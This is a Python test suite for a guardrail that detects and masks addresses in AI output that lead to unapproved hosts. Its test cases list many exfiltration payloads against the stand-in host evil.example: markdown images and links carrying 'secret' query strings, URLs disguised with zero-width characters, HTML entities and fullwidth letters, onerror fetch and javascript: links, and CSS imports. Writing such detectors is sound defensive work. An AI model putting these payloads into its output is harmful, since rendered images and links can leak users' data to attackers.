"""No address leads to a stranger: every way to write one is found, and what is named or allowed stays."""

from __future__ import annotations

import random
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guardrails.checks.exfiltration import Exfiltration
from guardrails.text_checks import Context
from guardrails.verdicts import Finding

_OUTPUT = Context("output")
_EVIL = "evil.example"


async def _found(text: str, context: Context = _OUTPUT, **settings: Any) -> tuple[Finding, ...]:
    (found,) = await Exfiltration(**settings).judge([text], context)
    return found


def _masked(text: str, found: tuple[Finding, ...]) -> str:
    for finding in sorted(found, key=lambda finding: -finding.start):
        text = text[: finding.start] + f"<exfiltration:{finding.kind}>" + text[finding.end :]
    return text


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("image", "![chart](https://evil.example/p.png?q=secret)"),
        ("image", "![chart](<https://evil.example/p.png?q=my secret>)"),
        ("image", '![chart](https://evil.example/p.png "title")'),
        ("image", "![chart](  \n https://evil.example/p.png)"),
        ("image", "![chart](//evil.example/p.png)"),
        ("image", "![chart](\\\\evil.example/p.png)"),
        ("image", "![chart](https:\\/\\/evil.example/p.png)"),
        ("image", "![chart](https\\://evil.example/p.png)"),
        ("image", "![chart](https:evil.example/p.png)"),
        ("image", "![chart](HTTPS://EVIL.EXAMPLE/p.png)"),
        ("image", "![chart](https://evil.example/a_(b)_c)"),
        ("image", "![a [nested] `]` one](https://evil.example/x)"),
        ("image", "![\u200bchart](https://ev\u200bil.exa\u2060mple/x)"),
        ("image", "!\u200b[chart]\u200b(h\u200dttps://evil.example/x)"),
        ("image", "![chart](&#104;ttps&colon;&sol;/evil&period;example/x)"),
        ("image", "![chart](https&#x3a;//evil.example/x)"),
        ("image", "![chart][1]\n\n[1]: https://evil.example/x"),
        ("image", "![chart][]\n\n> [chart]:\n>   <https://evil.example/x>".replace(">   ", "   ")),
        ("image", "![one `](https://ok.example/)` `[` two](https://evil.example/x)"),
        ("image", "![one \\](https://ok.example/) [two](https://evil.example/x)"),
        ("link", "[click](https://evil.example/?q=secret)"),
        ("link", "[click][here]\n\n[here]: https://evil.example/?q=secret 'title'"),
        ("link", "[click](file://evil.example/share)"),
        ("link", "[mail](mailto:me@evil.example?body=secret)"),
        ("link", '<a href="https://evil.example/?q=secret">click</a>'),
        ("html", '<img src="https://evil.example/x">'),
        ("html", "<img src=https://evil.example/x>"),
        ("html", "<img src = '//evil.example/x'>"),
        ("html", '<img alt="a > b" src="https://evil.example/x"'),
        ("html", '<img src="ht\ntps:/\t/evil.example/x">'),
        ("html", '<img src="https&#58;//evil.example/x">'),
        ("html", '<iframe src="https://evil.example/x"></iframe>'),
        ("html", '<img srcset="/a.png 1x, //evil.example/x 2x">'),
        ("html", '<div style="background: url(https://evil.example/x)">'),
        ("html", "<div style=\"background: url( '//evil.example/x')\">"),
        ("html", '<style>@import "https://evil.example/x";</style>'),
        ("html", '<link rel="stylesheet" href="https://evil.example/x">'),
        ("html", '<form action="https://evil.example/x">'),
        ("html", '<meta http-equiv="refresh" content="0; url=https://evil.example/x">'),
        ("html", "<img src=x onerror=fetch('https://evil.example/'+1)>"),
        ("html", '<img src="https://ok.example\n.evil.example/x">'),
        ("url", "see https://evil.example/?q=secret."),
        ("url", "see <https://evil.example/?q=secret>"),
        ("url", "see www.evil.example/?q=secret"),
        ("url", "see https://ok.example@evil.example/x"),
        ("url", "see https://ok.example\\.evil.example/x"),
        ("url", "see https://%65vil.example/x"),
        ("url", "see https://evil。example/x"),
        ("url", "see https://ｅvil.example./x"),
        ("data", "![chart](data:image/svg+xml;base64,PHN2Zz4=)"),
        ("data", '<iframe src="data:text/html,<script>1</script>"></iframe>'),
        ("script", "[click](javascript:fetch('//evil.example'))"),
        ("script", '<a href="java\nscript:alert(1)">click</a>'),
    ],
)
@pytest.mark.parametrize("before", ["", "Here you go: ", "**Résumé** ﬁne & good\n\n"])
async def test_an_address_of_a_stranger_is_found_and_masking_it_leaves_no_address(
    kind: str, text: str, before: str
) -> None:
    found = await _found(before + text, allowed_hosts=["ok.example"])
    assert kind in {finding.kind for finding in found}
    masked = _masked(before + text, found)
    assert masked.startswith(before)
    plain = re.sub("[\u200b\u200d\u2060\n\t]", "", masked)
    assert not re.search(r"[/\\@:](?:ok\.example)?[@.\\]*[eｅ]vil|%65vil|data:|script:|evil&period", plain)
    assert await _found(masked, allowed_hosts=["ok.example"]) == ()


async def test_the_text_of_a_masked_link_stays() -> None:
    text = "Read [the *terms*](https://evil.example/a_(b)?q=1 'now') and ![a chart](//evil.example/c), please."
    assert _masked(text, await _found(text)) == (
        "Read [the *terms*](<exfiltration:link> 'now') and ![a chart](<exfiltration:image>), please."
    )


async def test_a_finding_covers_the_address_as_it_was_written() -> None:
    text = "é ![x](htt\u200bps&#58;//evil.example/p) y"
    (finding,) = await _found(text)
    assert text[finding.start : finding.end] == "htt\u200bps&#58;//evil.example/p"


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://ok.example/p.png)",
        "![chart](https://OK.example:8443/p.png)",
        "![chart](https://cdn.ok.example/p.png)",
        '<img src="https://ok.example/x" srcset="https://ok.example/y 2x">',
        "![chart](/local/p.png) and ![other](p.png) [up](../x) [section](#there)",
        "[call](tel:+49301234) and a // comment",
        "if a[i](x) // 2: use b['k']: 'http'",
        "The scheme https: and the path //, a regex ^https?$ and an <b>element</b>.",
        "[1]: see the handbook, [2]: page 4",
    ],
)
async def test_what_is_allowed_or_leads_nowhere_stays(text: str) -> None:
    assert await _found(text, allowed_hosts=["ok.example", "*.ok.example"]) == ()


async def test_the_readers_own_machine_is_no_stranger_but_pictures_are_not_fetched_from_it() -> None:
    text = "Open http://localhost:8080/x, [this](http://127.0.0.1:3000/) or http://[::1]/ and http://app.localhost/."
    assert await _found(text) == ()
    assert await _found("http://localhost.evil.example/ http://127.0.0.1.evil.example/") != ()
    assert await _found("![x](http://localhost:9200/_shutdown)") != ()


async def test_a_suffix_holds_for_what_is_below_it_only() -> None:
    texts = [f"![x](https://{host}/)" for host in ("a.ok.example", "ok.example", "notok.example", "ok.example.evil")]
    found = await Exfiltration(["*.ok.example"]).judge(texts, _OUTPUT)
    assert [bool(findings) for findings in found] == [False, True, True, True]


@pytest.mark.parametrize(
    "context",
    [
        Context("output", question="What does docs.example.com say?"),
        Context("output", passages=("x", "Source: https://docs.example.com/install.")),
        Context("output", instructions="Point people to (https://DOCS.example.com)"),
    ],
)
async def test_links_may_lead_to_hosts_that_were_named_and_pictures_may_not(context: Context) -> None:
    assert await _found("[docs](https://docs.example.com/a) https://docs.example.com/b", context) == ()
    assert await _found('<a href="https://docs.example.com/a">docs</a>', context) == ()
    assert await _found("[docs](https://other.example.com/a)", context) != ()
    assert [finding.kind for finding in await _found("![x](https://docs.example.com/a)", context)] == ["image"]
    assert await _found("[docs](https://docs.example.com/a)", context, links="allowed") != ()


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("link", "![one](https://ok.example/) and [two](https://docs.example.com/x)"),
        ("image", "![one [two](https://docs.example.com/x) three](https://ok.example/)"),
        ("image", "![one [two] three](https://docs.example.com/x)"),
        ("link", "[![one](https://ok.example/)](https://docs.example.com/x)"),
        ("link", "![one\n\n[two](https://docs.example.com/x)"),
        ("image", "![one `x` [two](https://docs.example.com/x)"),
        ("image", "![" + "a" * 10_000 + " [two](https://docs.example.com/x)"),
    ],
)
async def test_a_link_is_told_from_a_picture_and_counts_as_one_in_doubt(kind: str, text: str) -> None:
    named = Context("output", question="docs.example.com")
    found = await _found(text, named, allowed_hosts=["ok.example"])
    assert [finding.kind for finding in found] == ([] if kind == "link" else ["image"])


async def test_settings_open_what_they_name() -> None:
    assert await _found("[x](https://evil.example/)", links="any") == ()
    assert await _found("[x](javascript:alert(1))", links="any") != ()
    assert await _found("see https://evil.example/", bare_urls=False) == ()
    assert await _found("![x](https://evil.example/)", bare_urls=False) != ()
    picture = "![x](data:image/png;base64,iVBORw0KGgo=)"
    assert await _found(picture) != ()
    assert await _found(picture, data_images=True) == ()
    assert await _found("![x](data:image/svg+xml;base64,iVBORw0KGgo=)", data_images=True) != ()


async def test_more_addresses_than_can_be_looked_at_end_in_one_finding() -> None:
    text = "[x](https://ok.example/) " * 4_001 + "![x](https://evil.example/)"
    (finding,) = await _found(text, allowed_hosts=["ok.example"])
    assert (finding.kind, finding.end) == ("too_many", len(text))


_HIDDEN = ("", "", "\u200b", "\u00ad", "\u2060", "\ufe0f", "\U000e0041")
_CHECK = Exfiltration()


@given(st.text(max_size=30), st.randoms(use_true_random=False), st.text(max_size=30))
async def test_a_picture_is_found_whatever_stands_around_it_and_hides_in_it(
    before: str, chance: random.Random, after: str
) -> None:
    address = "".join(
        (f"&#{ord(letter)};" if chance.random() < 0.3 else letter) + chance.choice(_HIDDEN)
        for letter in f"https://{_EVIL}/{chance.randrange(1000)}"
    )
    text = f"{before}\n\n![chart]({address})\n\n{after}"
    (found,) = await _CHECK.judge([text], _OUTPUT)
    at = len(before) + 11
    assert any(each.kind == "image" and each.start <= at and each.end >= at + len(address) for each in found)


async def test_texts_are_judged_each_for_itself() -> None:
    texts = ["plain", "![x](//evil.example/)", "", "\ud800 https://evil.example/"]
    found = await Exfiltration().judge(texts, _OUTPUT)
    assert [[finding.kind for finding in findings] for findings in found] == [
        [], ["image"], [], ["url"],
    ]  # fmt: skip


def test_a_host_that_is_none_is_refused_and_settings_change_the_version() -> None:
    with pytest.raises(ValueError, match="https://ok.example"):
        Exfiltration(["https://ok.example"])
    versions = {
        Exfiltration().version, Exfiltration(["a.b"]).version, Exfiltration(links="any").version,
        Exfiltration(bare_urls=False).version, Exfiltration(data_images=True).version,
    }  # fmt: skip
    assert len(versions) == 5
